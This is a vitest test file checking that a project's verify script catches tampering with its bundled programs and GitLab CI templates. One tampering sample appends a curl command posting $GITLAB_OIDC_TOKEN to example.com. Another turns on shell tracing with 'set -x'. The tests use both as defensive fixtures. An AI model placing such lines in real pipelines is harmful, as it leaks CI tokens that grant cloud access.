import { cpSync, existsSync, mkdtempSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { checkCommitted } from '../../scripts/bundle/committed.ts';
import { buildOutputs } from '../../scripts/bundle/outputs.ts';
import { root, runProgram } from '../support/run-program.ts';

/** A copy of this project after one file of it was changed. */
function changed(path: string, change: (text: string) => string): string {
  const copy = mkdtempSync(join(tmpdir(), 'verify-'));
  for (const part of ['src', 'scripts', 'templates', 'dist', 'package.json']) {
    cpSync(join(root, part), join(copy, part), { recursive: true });
  }
  symlinkSync(join(root, 'node_modules'), join(copy, 'node_modules'));
  const before = existsSync(join(copy, path)) ? readFileSync(join(copy, path), 'utf8') : '';
  writeFileSync(join(copy, path), change(before));
  return copy;
}

const verify = (copy: string) =>
  runProgram(process.execPath, [join(copy, 'scripts/verify.ts')], { PATH: process.env.PATH ?? '' });

describe('npm run verify', () => {
  it('passes for the committed files', async () => {
    const { exitCode, stdout } = await verify(changed('dist/assume-role.mjs', (text) => text));
    expect(stdout).not.toContain('FAIL');
    expect(exitCode).toBe(0);
  });

  it.each([
    ['a source', (text: string) => `${text}console.log('evil');`, 'dist/assume-role.mjs matches the sources'],
    ['a source into nonsense', () => '}', 'the sources can be built'],
  ])('fails if somebody changed %s', async (_, change, failed) => {
    const { exitCode, stdout } = await verify(changed('src/programs/assume-role.ts', change));
    expect(stdout).toContain(`FAIL ${failed}`);
    expect(exitCode).toBe(1);
  });
});

describe('the committed files', () => {
  let outputs: ReadonlyMap<string, Uint8Array>;
  beforeAll(async () => {
    outputs = await buildOutputs();
  }, 120_000);

  /** What is wrong after a change. */
  function failed(path: string, change: (text: string) => string): readonly string[] {
    const checks = checkCommitted(changed(path, change), outputs);
    return checks.filter(([, passed]) => !passed).map(([text]) => text);
  }

  it.each([
    ['the program in dist/', 'dist/assume-role.mjs', (text: string) => `${text}// evil`],
    ['the command line in dist/', 'dist/aws-oidc.mjs', (text: string) => `${text}// evil`],
    ['the doctor in dist/', 'dist/doctor.mjs', (text: string) => `${text}// evil`],
    [
      'the template of the doctor',
      'templates/diagnose.yml',
      (text: string) => text.replace('spec:\n', 'spec:\n  # evil\n'),
    ],
    [
      'a line of a payload',
      'templates/same-job.yml',
      (text: string) => text.replace(/^ {6}[A-Za-z0-9+/]{120}\n/m, ''),
    ],
    [
      'the order of two programs',
      'templates/same-job.yml',
      (text: string) =>
        text.replace(/(same-job|assume-role)(?=\.mjs" \|\|)/g, (name) =>
          name === 'same-job' ? 'assume-role' : 'same-job',
        ),
    ],
    [
      'a template behind its payload',
      'templates/assume-role.yml',
      (text: string) => `${text}    - 'curl --data "$GITLAB_OIDC_TOKEN" https://example.com'\n`,
    ],
    [
      'a template before its payload',
      'templates/same-job.yml',
      (text: string) => text.replace('spec:\n', 'spec:\n  # evil\n'),
    ],
    ['a template without a program', 'templates/web-identity.yml', (text: string) => `${text}# evil\n`],
    [
      'the shell of a template',
      'templates/assume-role.yml',
      (text: string) => text.replace('set +xv', 'set -x'),
    ],
  ])('are wrong if somebody changed %s', (_, path, change) => {
    expect(failed(path, change)).toContain(`${path} matches the sources`);
  });

  it.each([
    ['a program', 'dist/evil.mjs', '1'],
    ['a template', 'templates/evil.yml', 'spec: {}\n---\nevil: { script: [evil] }\n'],
  ])('are wrong if somebody added %s', (_, path, text) => {
    expect(failed(path, () => text)).toEqual([`${path} has a source`]);
  });
});
